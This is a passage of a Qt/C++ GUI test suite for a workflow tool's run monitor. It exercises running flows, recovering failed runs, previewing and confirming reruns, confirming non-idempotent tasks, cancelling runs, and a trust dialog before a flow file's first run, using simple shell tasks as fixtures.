// RunMonitor in a window (offscreen) with a real Engine and real shell tasks, driven through its
// widgets: F5's params dialog starts the run and shows it on the read-only run canvas; a right
// click on the failed run in the Runs table opens the recovery menu; "Rerun failed tasks" shows
// the preview on the canvas and the banner's Run button confirms it; the node menu of a shown run
// reruns one task; the banner says when the run's definition differs from the open file; the
// status bar shows done/total.

#include "app/mainwindow.h"
#include "editor/flowdocument.h"
#include "editor/flowscene.h"
#include "editor/flowview.h"
#include "editor/inspectorwidget.h"
#include "editor/nodeitem.h"
#include "editor/palettewidget.h"
#include "engine/home.h"
#include "engine/truststore.h"
#include "format/flowloader.h"
#include "history/historystore.h"
#include "modaldialogs.h"
#include "monitor/chartswidget.h"
#include "monitor/logview.h"
#include "monitor/noderunbadge.h"
#include "monitor/paramsdialog.h"
#include "monitor/runbanner.h"
#include "monitor/runcontroller.h"
#include "monitor/runmonitor.h"
#include "monitor/runoverlay.h"
#include "monitor/runsdock.h"
#include "monitor/runsmodel.h"
#include "monitor/runstatemodel.h"
#include "monitor/runtaskdetails.h"
#include "monitor/taskpanel.h"
#include "monitor/trustdialog.h"

#include <QAction>
#include <QApplication>
#include <QCheckBox>
#include <QContextMenuEvent>
#include <QDockWidget>
#include <QFile>
#include <QLabel>
#include <QMainWindow>
#include <QMenu>
#include <QMessageBox>
#include <QProgressBar>
#include <QPushButton>
#include <QSettings>
#include <QSignalSpy>
#include <QStackedWidget>
#include <QStandardPaths>
#include <QStatusBar>
#include <QTableView>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QTreeWidget>
#include <QUndoStack>

using namespace pw;

namespace {

const char *kFlow = R"(pipewright: 1
flow: daily
params:
  date: {type: date, default: "2026-11-24"}
  region: {type: choice, values: [kr, jp], default: kr}
tasks:
  extract: {type: shell, command: "sleep 0.3; echo extract {{date}}"}
  load: {type: shell, after: [extract], command: "test -f OK || exit 4"}
  report: {type: shell, after: [load], command: "echo report"}
  archive: {type: shell, after: [extract], command: "echo archive"}
)";

QMenu *waitForPopup()
{
    QDeadlineTimer deadline(3000);
    while (!deadline.hasExpired()) {
        if (auto *menu = qobject_cast<QMenu *>(QApplication::activePopupWidget()))
            return menu;
        QTest::qWait(10);
    }
    return nullptr;
}

// A RunMonitor in a plain 1200x800 window (docks at the bottom, its status widget in the status
// bar) on `flow`, its engine on `home`. The members are public: the tests drive them.
struct MonitorWindow
{
    QMainWindow window;
    FlowDocument doc;
    QUndoStack undo;
    FlowScene scene{&doc, &undo};
    RunMonitor monitor{&window, &doc};

    MonitorWindow()
    {
        window.setCentralWidget(monitor.wrapCanvas(new FlowView(&scene)));
        for (QDockWidget *d : monitor.docks())
            window.addDockWidget(Qt::BottomDockWidgetArea, d);
        window.statusBar()->addPermanentWidget(monitor.statusWidget());
        window.resize(1200, 800);
    }
    // Shows the window with `flow` open and starts the engine; false when either fails.
    bool open(const Flow &flow, const QString &home)
    {
        window.show();
        if (!QTest::qWaitForWindowExposed(&window))
            return false;
        doc.setFlow(flow);
        doc.validateNow();
        return monitor.start(home).has_value();
    }
    // F5, the params dialog's defaults, OK: the run ends and is drawn. Its id, 0 on a timeout.
    qint64 runWithDefaults()
    {
        QSignalSpy finished(monitor.controller(), &RunController::runFinished);
        monitor.runFlow();
        if (!monitor.paramsDialog())
            return 0;
        QDeadlineTimer deadline(20000);
        while (monitor.paramsDialog()->isChecking() && !deadline.hasExpired())
            QTest::qWait(10);
        monitor.paramsDialog()->accept();
        if (!finished.wait(20000))
            return 0;
        while (!monitor.isRunDrawn() && !deadline.hasExpired())
            QTest::qWait(10);
        return monitor.isRunDrawn() ? monitor.shownRun() : 0;
    }
};

// Writes `yaml` to DIR/NAME and loads it.
Result<Flow, Errors> writeFlow(const QString &dir, const QString &name, const QByteArray &yaml)
{
    const QString path = dir + QLatin1Char('/') + name;
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly | QIODevice::Truncate))
        return Unexpected(Errors{Error(QStringLiteral("cannot write ") + path)});
    f.write(yaml);
    f.close();
    return FlowLoader::loadFile(path);
}

} // namespace

class TestRunMonitor : public QObject
{
    Q_OBJECT
private:
    QTemporaryDir m_dir;

private Q_SLOTS:
    void initTestCase()
    {
        QStandardPaths::setTestModeEnabled(true);
        QSettings::setPath(QSettings::NativeFormat, QSettings::UserScope,
            m_dir.path() + QStringLiteral("/settings"));
        QCoreApplication::setOrganizationName(QStringLiteral("PipewrightTest"));
    }

    // The real main window: F5 opens the params dialog, the run is shown read only (editing
    // actions off, the Runs dock raised, progress in the status bar), Show current edits again.
    void mainWindowF5AndShowCurrent()
    {
        const QString path = m_dir.path() + QStringLiteral("/mw.flow.yaml");
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("pipewright: 1\nflow: mw\ntasks:\n  one: {type: shell, command: \"echo one\"}\n"
                "  two: {type: shell, after: [one], command: \"echo two\"}\n");
        f.close();
        MainWindow win;
        win.setHome(m_dir.path() + QStringLiteral("/mwhome"));
        win.show();
        QVERIFY(QTest::qWaitForWindowExposed(&win));
        QVERIFY(win.openFile(path).has_value());
        win.document()->validateNow();
        RunMonitor *monitor = win.monitor();
        QVERIFY(monitor->isStarted());
        QVERIFY(win.action(QStringLiteral("run"))->isEnabled());
        QCOMPARE(win.action(QStringLiteral("run"))->shortcut(), QKeySequence(Qt::Key_F5));
        QSignalSpy finished(monitor->controller(), &RunController::runFinished);
        // Never run here: the first Run asks to trust the file (trustBeforeTheFirstRun).
        bool trusted = false;
        pw::test::whenShown<TrustDialog>(
            [](TrustDialog *d) {
                d->trustButton()->click();
                return true;
            },
            &trusted);
        win.action(QStringLiteral("run"))->trigger();
        QVERIFY(trusted);
        QVERIFY(monitor->paramsDialog());
        QTRY_VERIFY(!monitor->paramsDialog()->isChecking());
        monitor->paramsDialog()->accept();
        QVERIFY(finished.wait(20000));
        QTRY_VERIFY(monitor->isShowingRun() && monitor->isRunDrawn());
        QCOMPARE(win.activeView(), monitor->runView());
        QVERIFY(!win.action(QStringLiteral("delete"))->isEnabled());
        QVERIFY(!win.action(QStringLiteral("paste"))->isEnabled());
        QVERIFY(!win.palette()->isEnabled());
        QTRY_COMPARE(monitor->progressBar()->value(), 2);
        QVERIFY(win.findChild<QDockWidget *>(QStringLiteral("runsDock")));
        QVERIFY(win.findChild<QDockWidget *>(QStringLiteral("logDock")));
        QVERIFY(win.findChild<QDockWidget *>(QStringLiteral("chartsDock")));
        // The Inspector dock shows the run's task details, not greyed flow settings (issue 17
        // item 7); a click on a node fills them.
        QVERIFY(monitor->runDetails()->isVisible());
        QVERIFY(!win.inspector()->isVisible());
        NodeItem *two = monitor->runScene()->node(QStringLiteral("two"));
        QTest::mouseClick(monitor->runView()->viewport(), Qt::LeftButton, {},
            monitor->runView()->mapFromScene(two->sceneBoundingRect().center()));
        QCOMPARE(monitor->runDetails()->task(), QStringLiteral("two"));
        QTRY_COMPARE(
            monitor->runDetails()->findChild<QLabel *>(QStringLiteral("detailState"))->text(),
            QStringLiteral("succeeded"));
        QTRY_COMPARE(
            monitor->runDetails()->findChild<QLabel *>(QStringLiteral("detailExitCode"))->text(),
            QStringLiteral("0"));
        // The open document was never touched by showing the run.
        QVERIFY(win.undoStack()->isClean());
        QTest::mouseClick(monitor->banner()->showCurrentButton(), Qt::LeftButton);
        QVERIFY(!monitor->isShowingRun());
        QVERIFY(win.inspector()->isVisible());
        QCOMPARE(win.activeView(), win.view());
        QVERIFY(win.action(QStringLiteral("paste"))->isEnabled());
        QVERIFY(win.palette()->isEnabled());

        // Opening another flow lets go of this flow's run (issue 17 item 9): no run in the
        // status bar, the Log dock or the Charts dock.
        QVERIFY(monitor->statusWidget()->isVisible());
        monitor->taskPanel()->setTask(QStringLiteral("one"));
        const QString other = m_dir.path() + QStringLiteral("/other.flow.yaml");
        QFile g(other);
        QVERIFY(g.open(QIODevice::WriteOnly));
        g.write("pipewright: 1\nflow: other\ntasks:\n  x: {type: noop}\n");
        g.close();
        QVERIFY(win.openFile(other).has_value());
        QCOMPARE(monitor->shownRun(), 0);
        QVERIFY(!monitor->statusWidget()->isVisible());
        QCOMPARE(monitor->runModel()->runId(), 0);
        QCOMPARE(monitor->taskPanel()->attemptsView()->topLevelItemCount(), 0);
        QTRY_COMPARE(monitor->charts()->ganttBars(), 0);
        QTRY_COMPARE(monitor->charts()->chartedFlow(), QStringLiteral("other"));
    }

    void runFailRecoverFromTheWidgets()
    {
        auto flow = writeFlow(m_dir.path(), QStringLiteral("daily.flow.yaml"), kFlow);
        QVERIFY(flow.has_value());
        MonitorWindow mw;
        QMainWindow &window = mw.window;
        FlowDocument &doc = mw.doc;
        RunMonitor &monitor = mw.monitor;
        QVERIFY(mw.open(*flow, m_dir.path() + QStringLiteral("/home")));
        QSignalSpy finished(monitor.controller(), &RunController::runFinished);

        // F5: the dialog, typed editors, OK.
        monitor.runFlow();
        ParamsDialog *dialog = monitor.paramsDialog();
        QVERIFY(dialog);
        QVERIFY(dialog->findChild<QWidget *>(QStringLiteral("param_date"))->inherits("QDateEdit"));
        QVERIFY(
            dialog->findChild<QWidget *>(QStringLiteral("param_region"))->inherits("QComboBox"));
        QSignalSpy checked(dialog, &ParamsDialog::checked);
        QVERIFY(checked.wait(5000));
        QCOMPARE(int(dialog->action()), int(ParamsDialog::Action::Run));
        dialog->accept();

        // The run is shown, read only, and fails at load.
        QTRY_VERIFY_WITH_TIMEOUT(monitor.isShowingRun() && monitor.isRunDrawn(), 10000);
        const qint64 id = monitor.shownRun();
        QVERIFY(finished.wait(20000));
        QCOMPARE(finished.first().at(0).toLongLong(), id);
        QTRY_COMPARE(toString(monitor.runModel()->state(QStringLiteral("report")).state),
            QStringLiteral("upstream_failed"));
        QCOMPARE(monitor.runScene()->nodeCount(), 4);
        QVERIFY(monitor.overlay()->badge(QStringLiteral("load")));
        QVERIFY(monitor.banner()->runText().startsWith(QStringLiteral("Run %1 · ").arg(id)));
        QVERIFY(!monitor.banner()->runText().contains(QStringLiteral("differs")));
        QTRY_COMPARE(monitor.progressBar()->value(), 4);
        QCOMPARE(monitor.progressBar()->maximum(), 4);

        // Right click on the run row: the recovery menu; "Rerun failed tasks" previews.
        QTableView *table = monitor.runsDock()->table();
        QTRY_VERIFY(monitor.runsDock()->model()->rowOf(id) >= 0);
        const QModelIndex row = monitor.runsDock()->model()->index(
            monitor.runsDock()->model()->rowOf(id), RunsModel::FlowColumn);
        table->scrollTo(row);
        const QPoint at = table->visualRect(row).center();
        QContextMenuEvent ev(QContextMenuEvent::Mouse, at, table->viewport()->mapToGlobal(at));
        QApplication::sendEvent(table->viewport(), &ev);
        QMenu *menu = waitForPopup();
        QVERIFY(menu);
        QAction *rerun = menu->findChild<QAction *>(QStringLiteral("rerunFailed"));
        QVERIFY(rerun && rerun->isEnabled());
        QCOMPARE(menu->defaultAction(), rerun);
        menu->close();
        rerun->trigger();
        QTRY_VERIFY(monitor.isPreviewing());
        QCOMPARE(
            monitor.banner()->previewText(), QStringLiteral("2 tasks will run again, 2 are kept"));
        QCOMPARE(int(monitor.overlay()->badge(QStringLiteral("load"))->preview()),
            int(NodeRunBadge::Preview::Rerun));
        QCOMPARE(int(monitor.overlay()->badge(QStringLiteral("extract"))->preview()),
            int(NodeRunBadge::Preview::Kept));
        if (qEnvironmentVariableIsSet("PW_TEST_SHOTS")) // a picture to look at while developing
            window.grab().save(
                qEnvironmentVariable("PW_TEST_SHOTS") + QStringLiteral("/runmonitor-preview.png"));

        // One click confirms.
        QFile ok(m_dir.path() + QStringLiteral("/OK"));
        QVERIFY(ok.open(QIODevice::WriteOnly));
        ok.close();
        finished.clear();
        QTest::mouseClick(monitor.banner()->confirmButton(), Qt::LeftButton);
        QVERIFY(!monitor.isPreviewing());
        QVERIFY(finished.wait(20000));
        QCOMPARE(toString(finished.first().at(1).value<RunState>()), toString(RunState::Succeeded));
        QTRY_COMPARE(toString(monitor.runModel()->state(QStringLiteral("report")).state),
            QStringLiteral("succeeded"));
        QCOMPARE(monitor.runModel()->attempts(QStringLiteral("extract")).size(), 1);
        QCOMPARE(monitor.runModel()->attempts(QStringLiteral("load")).size(), 2);

        // The node menu (right click on a node of the shown run): rerun this task only.
        NodeItem *archive = monitor.runScene()->node(QStringLiteral("archive"));
        QVERIFY(archive);
        const QPoint nodePos
            = monitor.runView()->mapFromScene(archive->sceneBoundingRect().center());
        QContextMenuEvent nev(
            QContextMenuEvent::Mouse, nodePos, monitor.runView()->viewport()->mapToGlobal(nodePos));
        QApplication::sendEvent(monitor.runView()->viewport(), &nev);
        QMenu *nodeMenu = waitForPopup();
        QVERIFY(nodeMenu);
        QStringList names;
        for (QAction *a : nodeMenu->actions())
            if (!a->isSeparator())
                names << a->objectName();
        QCOMPARE(names,
            (QStringList{QStringLiteral("rerunFrom"), QStringLiteral("rerunTask"),
                QStringLiteral("markSucceeded"), QStringLiteral("markFailed"),
                QStringLiteral("cancelTask"), QStringLiteral("showLog")}));
        QAction *only = nodeMenu->findChild<QAction *>(QStringLiteral("rerunTask"));
        nodeMenu->close();
        only->trigger();
        QTRY_VERIFY(monitor.isPreviewing());
        QCOMPARE(
            monitor.banner()->previewText(), QStringLiteral("1 task will run again, 3 are kept"));
        finished.clear();
        QTest::mouseClick(monitor.banner()->confirmButton(), Qt::LeftButton);
        QVERIFY(finished.wait(20000));
        QTRY_COMPARE(monitor.runModel()->attempts(QStringLiteral("archive")).size(), 2);
        QCOMPARE(monitor.runModel()->attempts(QStringLiteral("report")).size(), 1);

        // A left click on a node shows its attempts and log in the Log dock; Show log too.
        NodeItem *load = monitor.runScene()->node(QStringLiteral("load"));
        const QPoint loadPos = monitor.runView()->mapFromScene(load->sceneBoundingRect().center());
        QTest::mouseClick(monitor.runView()->viewport(), Qt::LeftButton, {}, loadPos);
        QCOMPARE(monitor.taskPanel()->task(), QStringLiteral("load"));
        QTRY_COMPARE(monitor.taskPanel()->attemptsView()->topLevelItemCount(), 2);
        QTRY_COMPARE(
            monitor.taskPanel()->attemptsView()->topLevelItem(0)->text(TaskPanel::ExitCodeColumn),
            QStringLiteral("4")); // exit code
        QTRY_VERIFY(!monitor.taskPanel()->logView()->file().isEmpty());
        std::unique_ptr<QMenu> extractMenu(
            monitor.createNodeMenu(QStringLiteral("extract"), nullptr));
        extractMenu->findChild<QAction *>(QStringLiteral("showLog"))->trigger();
        QCOMPARE(monitor.taskPanel()->task(), QStringLiteral("extract"));
        QTRY_VERIFY(
            monitor.taskPanel()->logView()->text().contains(QStringLiteral("extract 2026-11-24")));

        // Esc drops a preview.
        monitor.requestRerun({id}, RerunMode::All);
        QTRY_VERIFY(monitor.isPreviewing());
        QCOMPARE(
            monitor.banner()->previewText(), QStringLiteral("4 tasks will run again, 0 are kept"));
        monitor.runView()->setFocus();
        QTest::keyClick(monitor.runView(), Qt::Key_Escape);
        QVERIFY(!monitor.isPreviewing());
        QCOMPARE(int(monitor.overlay()->badge(QStringLiteral("extract"))->preview()),
            int(NodeRunBadge::Preview::None));

        // Editing the open flow: the banner says the definition differs; Show current goes back.
        TaskSpec t = *doc.task(QStringLiteral("report"));
        t.command = QStringLiteral("echo report v2");
        doc.setTask(t.id, t);
        monitor.runModel()->refresh();
        QTRY_VERIFY(monitor.banner()->runText().contains(
            QStringLiteral("definition differs from the open file")));
        QTest::mouseClick(monitor.banner()->showCurrentButton(), Qt::LeftButton);
        QVERIFY(!monitor.isShowingRun());
    }

    // Rerun with the current definition (preview warns, the changed task and its downstream run
    // again), Mark succeeded on a failed run, and Cancel of a running run of this GUI.
    void currentDefinitionMarkAndCancel()
    {
        auto flow = writeFlow(m_dir.path(), QStringLiteral("cur.flow.yaml"),
            "pipewright: 1\nflow: cur\nparams:\n  n: {type: int, default: 1}\ntasks:\n"
            "  a: {type: shell, command: \"echo a\"}\n"
            "  b: {type: shell, after: [a], command: \"exit 5\"}\n"
            "  c: {type: shell, after: [b], command: \"echo c\"}\n"
            "  slow: {type: shell, command: \"sleep {{n}}\"}\n");
        QVERIFY(flow.has_value());
        MonitorWindow mw;
        FlowDocument &doc = mw.doc;
        RunMonitor &monitor = mw.monitor;
        QVERIFY(mw.open(*flow, m_dir.path() + QStringLiteral("/home2")));
        QSignalSpy finished(monitor.controller(), &RunController::runFinished);
        const qint64 id = mw.runWithDefaults();
        QVERIFY(id > 0);
        QTRY_COMPARE(toString(monitor.runModel()->run().state), QStringLiteral("failed"));
        const QString oldHash = monitor.runModel()->run().definitionHash;

        // Fix b in the open file; rerun with the current definition.
        TaskSpec b = *doc.task(QStringLiteral("b"));
        b.command = QStringLiteral("echo fixed");
        doc.setTask(b.id, b);
        QTRY_VERIFY(monitor.runsDock()->model()->rowOf(id) >= 0);
        QTRY_COMPARE(
            toString(
                monitor.runsDock()->model()->run(monitor.runsDock()->model()->rowOf(id)).state),
            QStringLiteral("failed"));
        std::unique_ptr<QMenu> menu(monitor.runsDock()->createContextMenu({id}, nullptr));
        QAction *current = menu->findChild<QAction *>(QStringLiteral("rerunCurrent"));
        QVERIFY(current->isEnabled());
        current->trigger();
        QTRY_VERIFY(monitor.isPreviewing());
        QCOMPARE(
            monitor.banner()->previewText(), QStringLiteral("2 tasks will run again, 2 are kept"));
        QVERIFY(monitor.banner()
                    ->findChild<QLabel *>(QStringLiteral("previewWarning"))
                    ->text()
                    .contains(QStringLiteral("open file")));
        finished.clear();
        QTest::mouseClick(monitor.banner()->confirmButton(), Qt::LeftButton);
        QVERIFY(finished.wait(20000));
        QCOMPARE(toString(finished.first().at(1).value<RunState>()), QStringLiteral("succeeded"));
        QTRY_VERIFY(monitor.runModel()->run().definitionHash != oldHash);
        QTRY_COMPARE(monitor.runModel()->attempts(QStringLiteral("a")).size(), 1);
        QCOMPARE(monitor.runModel()->attempts(QStringLiteral("b")).size(), 2);

        // A second run (n=2) fails after b is broken again: Mark succeeded from the menu.
        b.command = QStringLiteral("exit 6");
        doc.setTask(b.id, b);
        monitor.runFlow();
        QVERIFY(monitor.paramsDialog());
        monitor.paramsDialog()->setValue(QStringLiteral("n"), QStringLiteral("2"));
        QTRY_VERIFY(!monitor.paramsDialog()->isChecking());
        QCOMPARE(int(monitor.paramsDialog()->action()), int(ParamsDialog::Action::Run));
        finished.clear();
        monitor.paramsDialog()->accept();
        QVERIFY(finished.wait(20000));
        const qint64 second = finished.first().at(0).toLongLong();
        QVERIFY(second != id);
        QTRY_VERIFY(monitor.runsDock()->model()->rowOf(second) >= 0);
        QTRY_COMPARE(
            toString(
                monitor.runsDock()->model()->run(monitor.runsDock()->model()->rowOf(second)).state),
            QStringLiteral("failed"));
        std::unique_ptr<QMenu> menu2(monitor.runsDock()->createContextMenu({second}, nullptr));
        menu2->findChild<QAction *>(QStringLiteral("markSucceeded"))->trigger();
        QTRY_COMPARE_WITH_TIMEOUT(
            toString(
                monitor.runsDock()->model()->run(monitor.runsDock()->model()->rowOf(second)).state),
            QStringLiteral("succeeded"), 5000);

        // A third run (n=30) is cancelled while it runs.
        monitor.runFlow();
        monitor.paramsDialog()->setValue(QStringLiteral("n"), QStringLiteral("30"));
        QTRY_VERIFY(!monitor.paramsDialog()->isChecking());
        finished.clear();
        monitor.paramsDialog()->accept();
        QTRY_VERIFY(
            monitor.shownRun() != second && monitor.shownRun() != id && monitor.isRunDrawn());
        QTRY_COMPARE(toString(monitor.runModel()->state(QStringLiteral("slow")).state),
            QStringLiteral("running"));
        monitor.cancelRun();
        QVERIFY(finished.wait(15000));
        QCOMPARE(toString(finished.first().at(1).value<RunState>()), QStringLiteral("cancelled"));
    }

    // Fix, then recover (issue 17 item 1): when the open file differs from the run's definition,
    // the preview says how and asks which definition runs; Run waits for the answer. "Keep the
    // run's definition" reruns the stored one, "Use the current file" the fixed one.
    void changedFileAsksWhichDefinition()
    {
        auto flow = writeFlow(m_dir.path(), QStringLiteral("fix.flow.yaml"),
            "pipewright: 1\nflow: fix\ntasks:\n"
            "  a: {type: shell, command: \"echo a\"}\n"
            "  b: {type: shell, after: [a], command: \"exit 4\"}\n"
            "  c: {type: shell, after: [b], command: \"echo c\"}\n");
        QVERIFY(flow.has_value());
        MonitorWindow mw;
        RunMonitor &monitor = mw.monitor;
        QVERIFY(mw.open(*flow, m_dir.path() + QStringLiteral("/home-fix")));
        const qint64 id = mw.runWithDefaults();
        QVERIFY(id > 0);
        QTRY_COMPARE(toString(monitor.runModel()->run().state), QStringLiteral("failed"));

        // A click on the failed node brings its log to the front (issue 17 item 7), with the
        // exit code and error in the first columns.
        QDockWidget *runsDock = mw.window.findChild<QDockWidget *>(QStringLiteral("runsDock"));
        QDockWidget *logDock = mw.window.findChild<QDockWidget *>(QStringLiteral("logDock"));
        mw.window.tabifyDockWidget(runsDock, logDock);
        runsDock->raise();
        QTRY_VERIFY(logDock->visibleRegion().isEmpty());
        QTRY_VERIFY(monitor.isRunDrawn());
        NodeItem *bNode = monitor.runScene()->node(QStringLiteral("b"));
        QTRY_COMPARE(toString(monitor.runModel()->state(QStringLiteral("b")).state),
            QStringLiteral("failed"));
        QTest::mouseClick(monitor.runView()->viewport(), Qt::LeftButton, {},
            monitor.runView()->mapFromScene(bNode->sceneBoundingRect().center()));
        QTRY_VERIFY(!logDock->visibleRegion().isEmpty());
        QCOMPARE(monitor.taskPanel()->task(), QStringLiteral("b"));
        QTRY_COMPARE(monitor.taskPanel()->attemptsView()->topLevelItemCount(), 1);
        QTRY_COMPARE(
            monitor.taskPanel()->attemptsView()->topLevelItem(0)->text(TaskPanel::ExitCodeColumn),
            QStringLiteral("4"));
        QCOMPARE(monitor.taskPanel()->attemptsView()->topLevelItem(0)->text(TaskPanel::ErrorColumn),
            QStringLiteral("exit:4"));

        // Unchanged file: no question, Run is ready.
        monitor.requestRerun({id}, RerunMode::Failed);
        QTRY_VERIFY(monitor.isPreviewing());
        QVERIFY(!monitor.banner()->isChoosingDefinition());
        QVERIFY(monitor.banner()->confirmButton()->isEnabled());
        monitor.cancelPreview();

        // The fix, in the open file.
        TaskSpec b = *mw.doc.task(QStringLiteral("b"));
        b.command = QStringLiteral("echo fixed");
        mw.doc.setTask(b.id, b);
        monitor.requestRerun({id}, RerunMode::Failed);
        QTRY_VERIFY(monitor.isPreviewing());
        QVERIFY(monitor.banner()->isChoosingDefinition());
        const QString question
            = monitor.banner()->findChild<QLabel *>(QStringLiteral("definitionDifference"))->text();
        QVERIFY2(question.contains(QStringLiteral("1 task changed: b")), qPrintable(question));
        QVERIFY(!monitor.banner()->confirmButton()->isEnabled());
        monitor.confirmPreview(); // nothing starts before the choice
        QVERIFY(monitor.isPreviewing());
        if (qEnvironmentVariableIsSet("PW_TEST_SHOTS"))
            mw.window.grab().save(
                qEnvironmentVariable("PW_TEST_SHOTS") + QStringLiteral("/runmonitor-choice.png"));

        QTest::mouseClick(monitor.banner()->keepStoredButton(), Qt::LeftButton);
        QVERIFY(!monitor.banner()->isChoosingDefinition());
        QVERIFY(monitor.banner()->confirmButton()->isEnabled());
        QVERIFY(monitor.banner()
                    ->findChild<QLabel *>(QStringLiteral("previewWarning"))
                    ->text()
                    .contains(QStringLiteral("run's own definition")));

        // Changing one's mind: cancel, ask again, use the current file; it runs the fix.
        monitor.cancelPreview();
        monitor.requestRerun({id}, RerunMode::Failed);
        QTRY_VERIFY(monitor.banner()->isChoosingDefinition());
        QTest::mouseClick(monitor.banner()->useCurrentButton(), Qt::LeftButton);
        QVERIFY(!monitor.banner()->isChoosingDefinition());
        QCOMPARE(
            monitor.banner()->previewText(), QStringLiteral("2 tasks will run again, 1 is kept"));
        // The current definition is the file's code: it passes the trust gate first (issue 12).
        // Declined, nothing runs and the preview stays; the run's own definition needs no gate.
        QStringList asked;
        bool trust = false;
        monitor.setTrustGate([&](const QString &action) {
            asked << action;
            return trust;
        });
        QSignalSpy finished(monitor.controller(), &RunController::runFinished);
        QTest::mouseClick(monitor.banner()->confirmButton(), Qt::LeftButton);
        QCOMPARE(asked, QStringList{QStringLiteral("Trust and Rerun")});
        QVERIFY(monitor.isPreviewing());
        QVERIFY(!finished.wait(300));
        trust = true;
        QTest::mouseClick(monitor.banner()->confirmButton(), Qt::LeftButton);
        QCOMPARE(asked.size(), 2);
        QVERIFY(finished.wait(20000));
        QCOMPARE(toString(finished.first().at(1).value<RunState>()), QStringLiteral("succeeded"));
        QTRY_COMPARE(monitor.runModel()->attempts(QStringLiteral("b")).size(), 2);
        QCOMPARE(monitor.runModel()->attempts(QStringLiteral("a")).size(), 1);
    }

    // Retry safety in the GUI (DESIGN §1.5): rerunning a failed `idempotent: false` task marks
    // it on the canvas, shows its check text (with the run's date) and keeps Run disabled until
    // the box is ticked; the confirmation reaches the engine, which records it as an event.
    void nonIdempotentRerunIsConfirmed()
    {
        auto flow = writeFlow(m_dir.path(), QStringLiteral("once.flow.yaml"),
            "pipewright: 1\nflow: once\nparams:\n"
            "  date: {type: date, default: \"2026-11-24\"}\ntasks:\n"
            "  load: {type: shell, idempotent: false, check: \"no rows for {{date}} in "
            "sales\", command: \"test -f LOADED_OK || exit 5\"}\n"
            "  report: {type: shell, after: [load], command: \"echo report\"}\n");
        QVERIFY2(flow.has_value(), flow ? "" : qPrintable(flow.error().first().toString()));
        MonitorWindow mw;
        RunMonitor &monitor = mw.monitor;
        QVERIFY(mw.open(*flow, m_dir.path() + QStringLiteral("/home-once")));
        QSignalSpy finished(monitor.controller(), &RunController::runFinished);
        const qint64 id = mw.runWithDefaults();
        QVERIFY(id > 0);
        QTRY_COMPARE(toString(monitor.runModel()->state(QStringLiteral("load")).state),
            QStringLiteral("failed"));

        QFile ok(m_dir.path() + QStringLiteral("/LOADED_OK"));
        QVERIFY(ok.open(QIODevice::WriteOnly));
        ok.close();
        monitor.requestRerun({id}, RerunMode::Failed);
        QTRY_VERIFY(monitor.isPreviewing());
        QCOMPARE(
            monitor.banner()->previewText(), QStringLiteral("2 tasks will run again, 0 are kept"));
        QVERIFY(monitor.banner()->needsConfirmation());
        const QString text
            = monitor.banner()->findChild<QLabel *>(QStringLiteral("confirmText"))->text();
        QCOMPARE(text,
            QStringLiteral("load must not run twice (failed): no rows for 2026-11-24 in sales"));
        QCOMPARE(int(monitor.overlay()->badge(QStringLiteral("load"))->preview()),
            int(NodeRunBadge::Preview::Confirm));
        QCOMPARE(int(monitor.overlay()->badge(QStringLiteral("report"))->preview()),
            int(NodeRunBadge::Preview::Rerun));
        if (qEnvironmentVariableIsSet("PW_TEST_SHOTS"))
            mw.window.grab().save(
                qEnvironmentVariable("PW_TEST_SHOTS") + QStringLiteral("/runmonitor-confirm.png"));

        // Not ticked: Run is disabled, and confirming anyway (Enter, a script) does nothing.
        QVERIFY(!monitor.banner()->confirmButton()->isEnabled());
        monitor.confirmPreview();
        QVERIFY(monitor.isPreviewing());
        QTest::mouseClick(monitor.banner()->confirmBox(), Qt::LeftButton);
        QVERIFY(monitor.banner()->confirmBox()->isChecked());
        QVERIFY(monitor.banner()->confirmButton()->isEnabled());
        finished.clear();
        QTest::mouseClick(monitor.banner()->confirmButton(), Qt::LeftButton);
        QVERIFY(!monitor.isPreviewing());
        QVERIFY(!monitor.banner()->needsConfirmation());
        QVERIFY(finished.wait(20000));
        QCOMPARE(toString(finished.first().at(1).value<RunState>()), QStringLiteral("succeeded"));

        HistoryStore::Options o;
        o.path = monitor.controller()->historyPath();
        o.readOnly = true;
        auto store = HistoryStore::open(o);
        QVERIFY(store.has_value());
        auto events = (*store)->events(id);
        QVERIFY(events.has_value());
        QStringList confirms;
        for (const EventRecord &e : *events)
            if (e.kind == QStringLiteral("confirm"))
                confirms << e.task + QLatin1Char(':') + e.detail;
        QCOMPARE(confirms.size(), 1);
        QVERIFY2(confirms.first().startsWith(QStringLiteral("load:"))
                && confirms.first().contains(QStringLiteral("no rows for 2026-11-24 in sales")),
            qPrintable(confirms.first()));
    }

    // A flow file is code (issue 12): the first Run of a file never run here shows what it runs
    // and runs nothing unless trusted; trusted, it does not ask again; a change to what it runs
    // (made elsewhere) asks again and names the change; saving here trusts what is saved.
    void trustBeforeTheFirstRun()
    {
        const QString path = m_dir.path() + QStringLiteral("/trust.flow.yaml");
        auto write = [&path](const QByteArray &text) {
            QFile f(path);
            return f.open(QIODevice::WriteOnly | QIODevice::Truncate)
                && f.write(text) == text.size();
        };
        QVERIFY(write("pipewright: 1\nflow: trusting\ntasks:\n"
                      "  fetch: {type: shell, command: \"curl -s example.invalid > data.csv\"}\n"
                      "  tidy: {type: shell, after: [fetch], command: \"rm -f data.csv\"}\n"));
        const QString home = m_dir.path() + QStringLiteral("/trusthome");
        MainWindow win;
        win.setHome(home);
        win.show();
        QVERIFY(QTest::qWaitForWindowExposed(&win));
        QVERIFY(win.openFile(path).has_value());
        win.document()->validateNow();
        RunMonitor *monitor = win.monitor();
        QAction *run = win.action(QStringLiteral("run"));

        // Cancel: nothing runs, and the status bar says why.
        bool answered = false;
        QString listing;
        QString title;
        bool trustIsDefault = true;
        pw::test::whenShown<TrustDialog>(
            [&](TrustDialog *d) {
                listing = d->listing();
                title = d->windowTitle();
                trustIsDefault = d->trustButton()->isDefault();
                d->reject();
                return true;
            },
            &answered);
        run->trigger();
        QVERIFY(answered);
        QCOMPARE(title, QStringLiteral("Trust this flow?"));
        QVERIFY(!trustIsDefault); // Enter does not trust
        QVERIFY2(listing.contains(QLatin1String("curl -s example.invalid > data.csv"))
                && listing.contains(QLatin1String("rm -f data.csv"))
                && listing.indexOf(QLatin1String("fetch")) < listing.indexOf(QLatin1String("tidy")),
            qPrintable(listing));
        QVERIFY(!monitor->paramsDialog());
        QVERIFY(win.statusBar()->currentMessage().contains(QLatin1String("not trusted")));

        // Trust: the run dialog opens, and the trust is kept (no question the next time).
        answered = false;
        pw::test::whenShown<TrustDialog>(
